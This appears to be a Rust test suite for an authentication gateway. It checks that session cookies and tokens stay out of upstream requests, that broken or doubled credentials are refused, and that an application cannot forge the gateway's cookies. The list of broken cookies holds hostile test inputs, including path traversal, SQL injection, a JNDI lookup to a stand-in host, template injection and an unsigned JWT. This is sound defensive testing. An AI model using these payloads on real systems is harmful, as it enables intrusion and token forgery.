//! Credentials: the gateway's own stay with it, broken ones are none, and no application sets them.

use super::spelling::{Dice, Place, cases, request};
use crate::harness::{Gateway, PASSWORD};
use crate::raw::{Raw, Response};
use crate::upstream::{self, Upstream};

const YAML: &str = r#"
upstreams: { app: "${APP}" }
roles: { editor: { permissions: [] } }
routes:
  - { path: "/**", upstream: app, allow: authenticated }
  - { path: "/public", upstream: app, allow: public }
  - { path: "/optional", upstream: app, allow: optional }
  - { path: "/editors", upstream: app, allow: { roles: [editor] } }
"#;

async fn start() -> (Upstream, Gateway) {
    Gateway::before_echo(YAML).await
}

/// Names of our cookies, with and without prefixes and white space.
fn own_names() -> Vec<String> {
    let mut names = Vec::new();
    for prefix in ["", "__Host-", "__Secure-", "__host-", "__SECURE-"] {
        for name in [
            "portcullis",
            "portcullis-form-0badcafe",
            "portcullis-link-reset",
            "portcullis-bounce",
            "portcullis-",
        ] {
            names.push(format!("{prefix}{name}"));
        }
    }
    names
}

/// Pairs that hold a secret under one of our names, in the ways parsers read a name.
fn own_pairs(secret: &str) -> Vec<String> {
    let mut pairs = Vec::new();
    for name in own_names() {
        for pair in [
            "{}={s}",
            "{} ={s}",
            "\t{}\t= {s}",
            "={}={s}",
            " = {} = {s}",
            "{}=\"{s}\"",
            "{}={s}=",
            "{}=a={s}",
        ] {
            pairs.push(pair.replace("{}", &name).replace("{s}", secret));
        }
    }
    pairs
}

#[tokio::test(flavor = "multi_thread")]
async fn hdr_13_our_cookies_stay_here_wherever_they_stand() {
    let (upstream, gateway) = start().await;
    let ann = gateway.person("ann").sign_in().await;
    let secret = ann.cookie("portcullis").unwrap();
    let session = format!("portcullis={secret}");
    let host = format!("Host: {}", gateway.address);
    let theirs = ["theirs=1", "b=\"x y\"", "portcullisx=2", "x-portcullis=3", "Portcullis=4"];
    let mut dice = Dice(13);
    let mut raw = Raw::connect(gateway.address).await;
    for (at, pair) in own_pairs(&secret).into_iter().enumerate() {
        // The session itself cannot stand twice, or nobody is signed in.
        let is_session = pair.trim_start().starts_with("portcullis=");
        let target = ["/public", "/optional", "/x"][at % 3];
        let target = if target == "/x" && pair.starts_with("portcullis=") && pair != session {
            "/optional"
        } else {
            target
        };
        let mut pairs: Vec<_> = theirs.iter().map(|pair| (*pair).to_owned()).collect();
        pairs.insert(dice.below(6), pair.clone());
        if !is_session {
            pairs.insert(dice.below(7), session.clone());
        }
        let (front, back) = pairs.split_at(dice.below(pairs.len()));
        let glue = dice.pick(&["; ", ";", " ;\t", "; ; ;"]);
        let mut lines = vec![host.clone()];
        for (at, part) in [front, back].iter().enumerate().filter(|(_, part)| !part.is_empty()) {
            lines.push(format!(
                "{}: {}",
                cases("cookie")[(dice.below(4) + at) % 4],
                part.join(glue)
            ));
        }
        let method = dice.pick(&["GET", "DELETE", "PROPFIND"]);
        raw.send(request(method, target, &lines)).await;
        raw.response(method).await.expect(200);
        let seen = upstream.last();
        assert!(!seen.text().contains(&secret), "{lines:?}\n{}", seen.text());
        let left = seen.all("cookie").join("; ");
        let left: Vec<_> = left.split(';').map(str::trim).filter(|pair| !pair.is_empty()).collect();
        assert_eq!(left, theirs, "{lines:?}");
    }
    // A handshake is a request like any other.
    upstream.at("/socket", upstream::echo_websocket);
    let call = ann.get("/socket").header("Connection", "Upgrade").header("Upgrade", "websocket");
    let call = call.header("Sec-WebSocket-Version", "13").header("Origin", &ann.origin());
    let mut socket = call.header("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==").open().await;
    assert_eq!(socket.head().await.status, 101);
    assert!(!upstream.last().text().contains(&secret));
}

#[tokio::test(flavor = "multi_thread")]
async fn hdr_13_our_tokens_stay_here_valid_or_not_and_other_authorization_goes_on() {
    let (upstream, gateway) = start().await;
    gateway.person("ann").create().await;
    let fields = [("username", "ann@example.com"), ("password", PASSWORD)];
    let answer = gateway.client().post("/auth/jwt/login").form(&fields).send().await.expect(200);
    let token = answer.json()["access_token"].as_str().unwrap().to_owned();
    let parts: Vec<_> = token.split('.').collect();
    let ours = [
        token.clone(),
        format!("{}.{}.{}", parts[0], parts[1], "AAAA"),
        format!("{}.e30.{}", parts[0], parts[2]),
        format!("{}.{}.", parts[0], parts[1]),
        "pc_0123456789abcdef".to_owned(),
    ];
    let mut raw = Raw::connect(gateway.address).await;
    for (at, token) in ours.iter().enumerate() {
        for scheme in ["Bearer ", "bearer ", "BEARER ", "bEaReR  "] {
            for name in cases("authorization") {
                for target in ["/public", "/optional", "/x"] {
                    let lines =
                        [format!("Host: {}", gateway.address), format!("{name}: {scheme}{token}")];
                    raw.send(request("GET", target, &lines)).await;
                    let answer = raw.response("GET").await;
                    let is_good = at == 0 || target != "/x";
                    assert_eq!(
                        answer.status,
                        if is_good { 200 } else { 401 },
                        "{lines:?} {target}"
                    );
                    if is_good {
                        let seen = upstream.last();
                        assert_eq!(
                            seen.all("authorization"),
                            Vec::<String>::new(),
                            "{lines:?} {target}"
                        );
                        assert!(!seen.text().contains(&token[..18]), "{}", seen.text());
                    }
                }
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hdr_13_an_applications_own_authorization_goes_on_and_two_are_refused() {
    let (upstream, gateway) = start().await;
    let client = gateway.person("ann").sign_in_with_bearer().await;
    let head = String::from_utf8(client.get("/").bytes()).unwrap();
    let ours = head.lines().find_map(|line| line.strip_prefix("Authorization: ")).unwrap();
    let mut raw = Raw::connect(gateway.address).await;
    for theirs in [
        "Basic dGhlaXJzOng=",
        "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6InRoZWlycyJ9.e30.AAAA",
        "Bearer opaque",
        "Digest username=\"pc_x\"",
        "pc_x",
        "Negotiate",
    ] {
        for target in ["/public", "/optional"] {
            let lines = [format!("Host: {}", gateway.address), format!("Authorization: {theirs}")];
            raw.send(request("GET", target, &lines)).await;
            raw.response("GET").await.expect(200);
            assert_eq!(upstream.last().all("authorization"), [theirs]);
        }
        // Which of two was judged must not be a question.
        for two in [[ours, theirs], [theirs, ours], [theirs, theirs]] {
            for target in ["/public", "/optional", "/x"] {
                let before = upstream.count();
                let lines = two.map(|value| format!("Authorization: {value}"));
                let lines = Place::Last.arrange(&[format!("Host: {}", gateway.address)], &lines);
                let mut raw = Raw::connect(gateway.address).await;
                raw.send(request("GET", target, &lines)).await;
                raw.response("GET").await.expect(400);
                assert_eq!(upstream.count(), before, "{lines:?} {target}");
            }
        }
    }
    assert_eq!(upstream.count(), 12);
}

/// Session cookies that are none: bytes as they stand in the header.
fn broken(good: &str) -> Vec<Vec<u8>> {
    let text = |value: &str| value.as_bytes().to_vec();
    let mut broken: Vec<_> = [
        "",
        " ",
        "garbage",
        "=",
        "====",
        "!!!!",
        "null",
        "undefined",
        "0",
        "-1",
        "{}",
        "a.b.c",
        "%00",
        "%70",
        "\"\"",
        "\\",
        "../../etc/passwd",
        "' OR 1=1 --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<script>",
        "eyJhbGciOiJub25lIn0.e30.",
    ]
    .map(text)
    .into();
    broken.push(text(&"A".repeat(54)));
    broken.push(text(&"A".repeat(53)));
    broken.push(text(&"A".repeat(8 * 1024)));
    broken.push(text(&good.repeat(100)));
    broken.push(text(&format!("{}{}", &good[..50], "AAAA")));
    broken.push(text(&format!("AAAA{}", &good[4..])));
    broken.push(text(&format!("\"{good}\"")));
    broken.push(b"\xff\xfe\x80".to_vec());
    broken.push([good.as_bytes(), b"\x80"].concat());
    broken.push(vec![0xff; 54]);
    broken.push("é".repeat(27).into_bytes());
    broken
}

/// An answer without the request's id and date, which differ each time.
fn without_id(answer: &Response) -> (u16, Vec<(String, String)>, usize) {
    let mut headers = answer.headers.clone();
    headers.retain(|(name, _)| !["x-request-id", "date"].contains(&&**name));
    (answer.status, headers, answer.body.len())
}

async fn ask_with_cookie(
    raw: &mut Raw,
    target: &str,
    as_page: bool,
    cookies: &[Vec<u8>],
) -> Response {
    let mut bytes = format!("GET {target} HTTP/1.1\r\nHost: a.example\r\n").into_bytes();
    if as_page {
        bytes.extend(b"Accept: text/html\r\nSec-Fetch-Mode: navigate\r\n");
    }
    for cookie in cookies {
        bytes.extend(b"Cookie: ");
        bytes.extend(cookie);
        bytes.extend(b"\r\n");
    }
    bytes.extend(b"\r\n");
    raw.send(bytes).await;
    raw.response("GET").await
}

#[tokio::test(flavor = "multi_thread")]
async fn hdr_14_a_broken_session_cookie_is_no_cookie() {
    let (upstream, gateway) = start().await;
    let ann = gateway.person("ann").role("editor").sign_in().await;
    let good = ann.cookie("portcullis").unwrap();
    let targets = [
        "/public",
        "/optional",
        "/x",
        "/editors",
        "/auth/session",
        "/auth/users/me",
        "/auth/login",
        "/auth/account",
    ];
    let mut raw = Raw::connect(gateway.address).await;
    for target in targets {
        for as_page in [false, true] {
            let plain = ask_with_cookie(&mut raw, target, as_page, &[]).await;
            let expected =
                (!target.starts_with("/auth") && plain.status == 200).then(|| upstream.last());
            for value in broken(&good) {
                let cookie = [b"a=1; portcullis=", &*value, b"; b=2"].concat();
                let count = upstream.count();
                let answer =
                    ask_with_cookie(&mut raw, target, as_page, std::slice::from_ref(&cookie)).await;
                let case = format!("{target} {:?}", String::from_utf8_lossy(&value));
                if target == "/auth/login" {
                    assert_eq!(answer.status, 200, "{case}");
                } else if let Some(expected) = &expected {
                    assert_eq!(answer.status, 200, "{case}");
                    let seen = upstream.last();
                    let mut names = expected.names();
                    names.push("cookie".to_owned());
                    names.sort();
                    assert_eq!(seen.names(), names, "{case}");
                    assert_eq!(seen.all("cookie"), ["a=1; b=2"], "{case}");
                } else {
                    assert_eq!(without_id(&answer), without_id(&plain), "{case}");
                    assert_eq!(upstream.count(), count, "{case}");
                }
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hdr_14_two_session_cookies_are_none_and_both_are_cleared() {
    let (upstream, gateway) = start().await;
    let ann = gateway.person("ann").role("editor").sign_in().await;
    let good = ann.cookie("portcullis").unwrap();
    let mut raw = Raw::connect(gateway.address).await;
    for two in [
        vec![format!("portcullis={good}; portcullis={good}")],
        vec![format!("portcullis={good}"), format!("portcullis={good}")],
        vec![format!("portcullis={good}; a=1; portcullis=x")],
        vec!["portcullis=".to_owned(), format!("portcullis={good}")],
    ] {
        let two: Vec<_> = two.into_iter().map(String::into_bytes).collect();
        for (target, status) in
            [("/x", 401), ("/editors", 401), ("/optional", 200), ("/public", 200)]
        {
            let answer = ask_with_cookie(&mut raw, target, false, &two).await.expect(status);
            let cleared = answer.all("set-cookie");
            assert!(
                target == "/public" || cleared.iter().any(|line| line.starts_with("portcullis=;")),
                "{target} {cleared:?}"
            );
            if status == 200 {
                assert!(!upstream.last().text().contains("x-auth-"), "{}", upstream.last().text());
                assert!(!upstream.last().text().contains(&good));
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hdr_19_cookies_over_many_lines_are_all_looked_at() {
    let (upstream, gateway) = start().await;
    let ann = gateway.person("ann").sign_in().await;
    let session = format!("portcullis={}", ann.cookie("portcullis").unwrap());
    let mut raw = Raw::connect(gateway.address).await;
    for lines in [2, 3, 10, 60, 98] {
        for at in [0, lines / 2, lines - 1] {
            let mut cookies: Vec<_> = (0..lines).map(|line| format!("c{line}=1")).collect();
            cookies[at] = format!("{}; {session}", cookies[at]);
            let bytes: Vec<_> = cookies.iter().map(|line| line.clone().into_bytes()).collect();
            ask_with_cookie(&mut raw, "/x", false, &bytes).await.expect(200);
            let sent = upstream.last();
            assert!(!sent.text().contains("portcullis"), "{lines} {at}");
            let pairs = sent.all("cookie").join("; ");
            assert_eq!(pairs.split("; ").count(), lines, "{pairs}");
            // One more of the name in any other line, and none is believed.
            cookies[(at + 1) % lines] = format!("portcullis=x; c={at}");
            let bytes: Vec<_> = cookies.into_iter().map(String::into_bytes).collect();
            ask_with_cookie(&mut raw, "/x", false, &bytes).await.expect(401);
        }
    }
    let many: Vec<_> = (0..500).map(|at| format!("c{at}=1").into_bytes()).collect();
    let mut raw = Raw::connect(gateway.address).await;
    ask_with_cookie(&mut raw, "/public", false, &many).await.expect(431);
}

/// What an application might say to set a cookie of ours.
fn takeovers() -> Vec<String> {
    let mut lines = Vec::new();
    for (at, name) in own_names().into_iter().enumerate() {
        let header = &cases("set-cookie")[at % 4];
        for line in [
            "{}=evil; Path=/",
            "{}=",
            "{} = evil; HttpOnly",
            "={}=evil",
            "{}=evil; Domain=example.com; Max-Age=0",
            " {}=evil;",
            "{}",
        ] {
            lines.push(format!("{header}: {}", line.replace("{}", &name)));
        }
    }
    lines
}

#[tokio::test(flavor = "multi_thread")]
async fn hdr_20_an_application_sets_its_own_cookies_and_none_of_ours() {
    let (upstream, gateway) = start().await;
    let ann = gateway.person("ann").sign_in().await;
    let kept = "Set-Cookie: theirs=1; Path=/\r\nClear-Site-Data: \"cookies\"\r\n\
                Strict-Transport-Security: max-age=0\r\nset-cookie: portcullisx=2\r\n";
    for status in ["200 OK", "302 Found", "401 Unauthorized", "404 Not Found", "500 Oops"] {
        for forged in takeovers().chunks(10) {
            let forged = forged.join("\r\n");
            let head = format!("HTTP/1.1 {status}\r\nContent-Length: 2\r\n");
            for head in [
                format!("{head}{kept}{forged}\r\n\r\nok"),
                format!("{head}{forged}\r\n{kept}\r\nok"),
            ] {
                upstream.answers("/public", head.clone()).answers("/x", head);
                for (client, path) in [(&gateway.client(), "/public"), (&ann, "/x")] {
                    let answer = client.call("GET", path).send().await;
                    let set = answer.all("set-cookie");
                    assert_eq!(set, ["theirs=1; Path=/", "portcullisx=2"], "{path} {forged}");
                    // What else an application says of its site is the application's to say.
                    assert_eq!(answer.header("clear-site-data"), Some("\"cookies\""));
                    assert_eq!(answer.header("strict-transport-security"), Some("max-age=0"));
                }
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hdr_20_neither_a_handshake_nor_trailers_nor_an_early_answer_set_a_cookie_of_ours() {
    let (upstream, gateway) = start().await;
    let client = gateway.client();
    upstream.at("/public", |mut exchange| async move {
        let head = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
                    Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\nSet-Cookie: portcullis=evil\r\n\
                    Set-Cookie: theirs=1\r\n\r\n";
        exchange.write(head).await;
        exchange.wait_for_close().await;
        None
    });
    let call = client.get("/public").header("Connection", "Upgrade").header("Upgrade", "websocket");
    let call = call.header("Sec-WebSocket-Version", "13");
    let head =
        call.header("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==").open().await.head().await;
    assert_eq!(head.status, 101);
    let set: Vec<_> = head.headers.iter().filter(|(name, _)| name == "set-cookie").collect();
    assert_eq!(set.len(), 1, "{set:?}");
    assert_eq!(set[0].1, "theirs=1");

    let trailers = "HTTP/1.1 200 OK\r\nTrailer: Set-Cookie\r\nTransfer-Encoding: chunked\r\n\r\n\
                    2\r\nok\r\n0\r\nSet-Cookie: portcullis=evil\r\nX-Auth-Roles: admin\r\n\r\n";
    let early = "HTTP/1.1 103 Early Hints\r\nSet-Cookie: portcullis=evil\r\n\r\n\
                 HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    for answer in [trailers, early] {
        upstream.answers("/public", answer);
        let mut raw = client
            .get("/public")
            .header("Connection", "close")
            .header("TE", "trailers")
            .open()
            .await;
        let bytes = raw.read_to_end().await;
        let text = String::from_utf8_lossy(&bytes).to_lowercase();
        assert!(text.contains("ok") && !text.contains("evil"), "{text}");
    }
}
